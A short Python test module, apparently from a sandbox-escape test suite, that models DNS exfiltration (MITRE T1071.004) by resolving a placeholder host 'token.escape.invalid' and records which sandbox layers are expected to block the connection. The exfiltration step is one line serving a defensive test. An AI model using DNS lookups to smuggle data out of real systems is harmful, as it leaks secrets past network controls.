"""Resolve a name, which tells a name server what one knows."""

import socket

from tests.escape.technique import Alone, Technique


def attack(world):
    socket.getaddrinfo("token.escape.invalid", 443)


TECHNIQUE = Technique(
    source="T1071.004: DNS exfiltration",
    event=("net.connect",),
    by="broker",
    stops=("broker", "notification", "namespaces"),
    control=Alone("resolving needs a name server of the host's; tests/host/test_notify_net.py has the granted case"),
)
